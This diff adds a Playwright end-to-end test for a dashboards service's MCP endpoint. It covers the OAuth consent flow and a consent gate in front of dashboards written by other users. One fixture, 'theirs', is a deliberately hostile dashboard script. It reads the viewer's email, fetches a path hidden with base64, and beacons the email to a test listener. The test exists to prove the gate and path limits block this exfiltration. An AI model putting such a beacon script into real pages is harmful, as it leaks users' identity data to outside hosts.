@@ -1,0 +1,272 @@
+import { expect, test, type APIRequestContext, type Browser } from "@playwright/test";
+import { Client } from "@modelcontextprotocol/sdk/client/index.js";
+import { UnauthorizedError, type OAuthClientProvider } from "@modelcontextprotocol/sdk/client/auth.js";
+import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
+import type { OAuthClientInformationMixed, OAuthClientMetadata, OAuthTokens } from "@modelcontextprotocol/sdk/shared/auth.js";
+import type { CallToolResult } from "@modelcontextprotocol/sdk/types.js";
+import { expectNoSeriousViolations } from "./support/axe";
+import { Canaries } from "./support/canary";
+import { describeCounts, LoopbackListeners, reached, type ListenerTarget } from "./support/listeners";
+import { openHost, showApp } from "./support/mcp-app-host.mjs";
+import { SignInPage } from "./support/pages";
+
+// Saved dashboards over MCP with MCP authorization, on the production server. The official MCP
+// SDK's own OAuth client finds the authorization server from the 401 the endpoint answers,
+// registers, and sends a browser to the consent page, where a demo person signs in and approves
+// in Chromium; its token then shows that person's saved dashboard inline, on their live data,
+// through a host made of the MCP Apps SDK. Someone else's dashboard waits at the view's own gate,
+// with no frame and no read of the viewer's data, until the viewer allows it.
+
+const MCP = "/dashboards/playground/mcp";
+// Never listened on: the browser's visit to it is caught by routing, as a native app's loopback
+// listener would catch it.
+const REDIRECT = "http://127.0.0.1:45679/callback";
+
+const textOf = (r: CallToolResult) => r.content.map((c) => (c.type === "text" ? c.text : "")).join("");
+
+/** A client's OAuth state in memory, as a desktop MCP host keeps it on disk. */
+class MemoryProvider implements OAuthClientProvider {
+  info: OAuthClientInformationMixed | undefined;
+  saved: OAuthTokens | undefined;
+  verifier = "";
+  authorizationUrl: URL | null = null;
+  readonly redirectUrl = REDIRECT;
+  readonly clientMetadata: OAuthClientMetadata = {
+    client_name: "E2E MCP host",
+    redirect_uris: [REDIRECT],
+    token_endpoint_auth_method: "none",
+    grant_types: ["authorization_code", "refresh_token"],
+    response_types: ["code"],
+  };
+  state() {
+    return "e2e-state";
+  }
+  clientInformation() {
+    return this.info;
+  }
+  saveClientInformation(info: OAuthClientInformationMixed) {
+    this.info = info;
+  }
+  tokens() {
+    return this.saved;
+  }
+  saveTokens(tokens: OAuthTokens) {
+    this.saved = tokens;
+  }
+  redirectToAuthorization(url: URL) {
+    this.authorizationUrl = url;
+  }
+  saveCodeVerifier(verifier: string) {
+    this.verifier = verifier;
+  }
+  codeVerifier() {
+    return this.verifier;
+  }
+}
+
+/** The session's CSRF token, as the playground page embeds it for the person's own actions. */
+async function csrfOf(request: APIRequestContext): Promise<string> {
+  const html = await (await request.get("/dashboards/playground")).text();
+  const csrf = /csrf\\?":\\?"([A-Za-z0-9_-]+)/.exec(html)?.[1];
+  if (!csrf) throw new Error("no CSRF token on the playground page");
+  return csrf;
+}
+
+/** Saves `html` into `email`'s space as that person does from our own pages; answers its path. */
+async function saveAs(browser: Browser, baseURL: string, email: string, slug: string, html: string): Promise<{ handle: string; slug: string }> {
+  const context = await browser.newContext({ baseURL });
+  try {
+    const page = await context.newPage();
+    await new SignInPage(page).open("/account");
+    await new SignInPage(page).signInAs(email);
+    await page.waitForURL("**/account");
+    const handle = email.split("@")[0]!;
+    const res = await page.request.post(`/~/${handle}/${slug}`, {
+      headers: { "content-type": "text/html", "x-csrf-token": await csrfOf(page.request), "sec-fetch-site": "same-origin", origin: new URL(baseURL).origin },
+      data: html,
+    });
+    expect(res.status(), await res.text()).toBe(201);
+    return { handle, slug };
+  } finally {
+    await context.close();
+  }
+}
+
+/** Draws who the live /api/me says the viewer is. */
+const own = `<!doctype html><html><head><meta charset="utf-8"><title>My inline board</title></head><body><p id="who">…</p>
+<script>
+const API = window.DASHBOARD_API_BASE || "/api";
+fetch(API + "/me").then((r) => r.json()).then((me) => { document.getElementById("who").textContent = me.email; });
+</script></body></html>`;
+
+/** Someone else's: reads the viewer's /me, tries a path its code hides, and aims what it read at the listeners. */
+const theirs = (leak: ListenerTarget) => `<!doctype html><html><head><meta charset="utf-8"><title>Their board</title></head><body>
+<p id="got">waiting</p><p id="extra">waiting</p>
+<script>
+(async () => {
+  const API = window.DASHBOARD_API_BASE || "/api";
+  const res = await fetch(API + "/me");
+  const me = res.ok ? await res.json() : { email: "status-" + res.status };
+  document.getElementById("got").textContent = me.email;
+  const extra = await fetch(API + atob("L21lL2Zhdm91cml0ZXM="));
+  document.getElementById("extra").textContent = String(extra.status);
+  const out = ${JSON.stringify(leak.httpOrigin)};
+  new Image().src = out + "/leak?s=" + encodeURIComponent(me.email);
+  fetch(out + "/fetch?s=" + encodeURIComponent(me.email), { mode: "no-cors" }).catch(() => {});
+  document.documentElement.setAttribute("data-attempts", "made");
+})();
+</script></body></html>`;
+
+test("an MCP client without a token gets the authorization challenge, and the draft tools stay public", async ({ request, baseURL }) => {
+  const call = await request.post(MCP, {
+    headers: { "content-type": "application/json", accept: "application/json, text/event-stream" },
+    data: { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "show_dashboard", arguments: { handle: "csm", slug: "my-book" } } },
+  });
+  expect(call.status()).toBe(401);
+  const challenge = call.headers()["www-authenticate"]!;
+  const metadataUrl = /resource_metadata="([^"]+)"/.exec(challenge)?.[1];
+  expect(metadataUrl).toBe(`${baseURL}/.well-known/oauth-protected-resource${MCP}`);
+  expect(await call.json()).toMatchObject({ error: "unauthorized", hint: expect.any(String) });
+  const metadata = await (await request.get(metadataUrl!)).json();
+  expect(metadata).toMatchObject({ resource: `${baseURL}${MCP}`, authorization_servers: [baseURL] });
+  const server = await (await request.get("/.well-known/oauth-authorization-server")).json();
+  expect(server).toMatchObject({ issuer: baseURL, code_challenge_methods_supported: ["S256"], registration_endpoint: `${baseURL}/oauth/register` });
+
+  const bad = await request.post(MCP, {
+    headers: { "content-type": "application/json", authorization: "Bearer dd_at_forged" },
+    data: { jsonrpc: "2.0", id: 1, method: "tools/list" },
+  });
+  expect(bad.status()).toBe(401);
+  expect(bad.headers()["www-authenticate"]).toContain('error="invalid_token"');
+
+  // The SDK's client without authorization: drafts work, show_dashboard is refused over HTTP.
+  const client = new Client({ name: "e2e-no-auth", version: "1.0.0" });
+  await client.connect(new StreamableHTTPClientTransport(new URL(MCP, baseURL)));
+  try {
+    const created = (await client.callTool({ name: "create_draft", arguments: { html: "<!doctype html><title>t</title><p>hi</p>" } })) as CallToolResult;
+    expect(created.isError ?? false, textOf(created)).toBe(false);
+    await expect(client.callTool({ name: "show_dashboard", arguments: { handle: "csm", slug: "my-book" } })).rejects.toMatchObject({ code: 401 });
+  } finally {
+    await client.close();
+  }
+});
+
+test("the SDK's OAuth client connects through the consent page; the viewer's dashboard renders inline on live data, someone else's only after consent", async ({ browser, baseURL }) => {
+  test.setTimeout(120_000);
+  const stamp = Date.now().toString(36);
+  const listeners = new LoopbackListeners();
+  const canaries = new Canaries(browser, listeners);
+  const leak = await listeners.target("mcp oauth");
+  const mine = await saveAs(browser, baseURL!, "admin@demo.test", `inline-${stamp}`, own);
+  const other = await saveAs(browser, baseURL!, "csm@demo.test", `shared-${stamp}`, theirs(leak));
+
+  const provider = new MemoryProvider();
+  const transport = new StreamableHTTPClientTransport(new URL(MCP, baseURL), { authProvider: provider });
+  const client = new Client({ name: "e2e-oauth-host", version: "1.0.0" });
+  const signInContext = await browser.newContext({ baseURL });
+  const hostContext = await browser.newContext();
+  try {
+    await client.connect(transport);
+    // The endpoint's 401 sends the SDK through discovery and registration to the authorization URL.
+    await expect(client.callTool({ name: "show_dashboard", arguments: mine })).rejects.toBeInstanceOf(UnauthorizedError);
+    const authorizationUrl = provider.authorizationUrl!;
+    expect(authorizationUrl.pathname).toBe("/oauth/authorize");
+    expect(authorizationUrl.searchParams.get("code_challenge_method")).toBe("S256");
+    expect(authorizationUrl.searchParams.get("resource")).toBe(`${baseURL}${MCP}`);
+    expect(provider.info?.client_id).toMatch(/^dd_client_/);
+
+    // A person in a browser: signed out, so sign-in comes first, then the consent page.
+    const page = await signInContext.newPage();
+    let callback: URL | null = null;
+    await page.route(`${REDIRECT}**`, (route) => {
+      callback = new URL(route.request().url());
+      return route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Done</title><p>You can close this window.</p>" });
+    });
+    await page.goto(authorizationUrl.href);
+    await expect(page).toHaveURL(/\/signin\?next=/);
+    await new SignInPage(page).signInAs("admin@demo.test");
+    await expect(page.getByRole("heading", { level: 1 })).toContainText("Connect E2E MCP host to Dashboards?");
+    await expect(page.getByTestId("oauth-account")).toHaveText("Avery Admin");
+    await expect(page.getByTestId("oauth-redirect")).toHaveText(REDIRECT);
+    // The page's policy keeps axe's script out: the same page, same session, in a context that ignores it.
+    const axeContext = await browser.newContext({ baseURL, bypassCSP: true, storageState: await signInContext.storageState() });
+    try {
+      const axePage = await axeContext.newPage();
+      await axePage.goto(page.url());
+      await expect(axePage.getByTestId("oauth-approve")).toBeVisible();
+      await expectNoSeriousViolations(axePage);
+    } finally {
+      await axeContext.close();
+    }
+    await page.getByRole("button", { name: "Approve" }).click();
+    await expect.poll(() => callback?.href ?? null).not.toBeNull();
+    const back = callback as unknown as URL;
+    expect(back.searchParams.get("state")).toBe("e2e-state");
+    expect(back.searchParams.get("iss")).toBe(baseURL);
+    await transport.finishAuth(back.searchParams.get("code")!);
+    expect(provider.saved?.access_token).toMatch(/^dd_at_/);
+
+    // The viewer's own dashboard: at once, on their live data, through the App path.
+    const shown = (await client.callTool({ name: "show_dashboard", arguments: mine })) as CallToolResult;
+    expect(shown.isError ?? false, textOf(shown)).toBe(false);
+    expect(shown.structuredContent).toMatchObject({ yours: true, live: "run", title: "My inline board" });
+    const { tools } = await client.listTools();
+    const uri = (tools.find((t) => t.name === "show_dashboard")?._meta as { ui?: { resourceUri?: string } }).ui?.resourceUri;
+    expect(uri).toMatch(/^ui:\/\//);
+    for (const name of ["read_dashboard", "allow_dashboard", "read_live_data"]) {
+      expect((tools.find((t) => t.name === name)?._meta as { ui?: { visibility?: string[] } }).ui?.visibility, name).toEqual(["app"]);
+    }
+    const { contents } = await client.readResource({ uri: uri! });
+    const viewHtml = (contents[0] as { text: string }).text;
+
+    // The host page has no cookie of the service: whatever the view shows came with the token.
+    const host = await hostContext.newPage();
+    const relayed: string[] = [];
+    await openHost(host, async (params) => {
+      relayed.push(params.name);
+      return client.callTool(params);
+    });
+    await showApp(host, viewHtml, shown);
+    const inline = host.frameLocator("#app").frameLocator("iframe");
+    await expect(inline.locator("#who")).toHaveText("admin@demo.test");
+    expect(relayed).toContain("read_live_data");
+
+    // Someone else's: the gate, no frame, no read, until the viewer allows it.
+    const asked = (await client.callTool({ name: "show_dashboard", arguments: other })) as CallToolResult;
+    expect(asked.structuredContent).toMatchObject({ yours: false, live: "ask", owner: { handle: "csm" }, reads: ["/me"] });
+    const second = await hostContext.newPage();
+    const relayedSecond: string[] = [];
+    await openHost(second, async (params) => {
+      relayedSecond.push(params.name);
+      return client.callTool(params);
+    });
+    await showApp(second, viewHtml, asked);
+    const app = second.frameLocator("#app");
+    await expect(app.locator("#gate")).toContainText("Casey Morgan (@csm) wrote this dashboard");
+    await expect(app.locator("#gate-reads li")).toHaveText(["/me"]);
+    await expect(app.locator("iframe")).toHaveCount(0);
+    await canaries.send([leak]);
+    expect(reached(listeners.counts("mcp oauth")), describeCounts(listeners.counts("mcp oauth"))).toBe(false);
+    expect(relayedSecond).toEqual([]);
+    // Nothing the model could call instead of the view reads the data either.
+    const direct = (await client.callTool({ name: "read_live_data", arguments: { ...other, path: "/api/me" } })) as CallToolResult;
+    expect(direct.structuredContent).toMatchObject({ status: 403 });
+    expect(((direct.structuredContent as { body: string }).body)).not.toContain("admin@demo.test");
+
+    await app.getByRole("button", { name: "Allow here" }).click();
+    const theirsInline = app.frameLocator("iframe");
+    await expect(theirsInline.locator("#got")).toHaveText("admin@demo.test");
+    // Held to the paths it was shown.
+    await expect(theirsInline.locator("#extra")).toHaveText("403");
+    await expect(theirsInline.locator("html")).toHaveAttribute("data-attempts", "made");
+    expect(relayedSecond).toEqual(expect.arrayContaining(["allow_dashboard", "read_dashboard", "read_live_data"]));
+    await canaries.send([leak]);
+    expect(reached(listeners.counts("mcp oauth")), describeCounts(listeners.counts("mcp oauth"))).toBe(false);
+  } finally {
+    await client.close();
+    await signInContext.close();
+    await hostContext.close();
+    await canaries.close();
+    await listeners.close();
+  }
+});
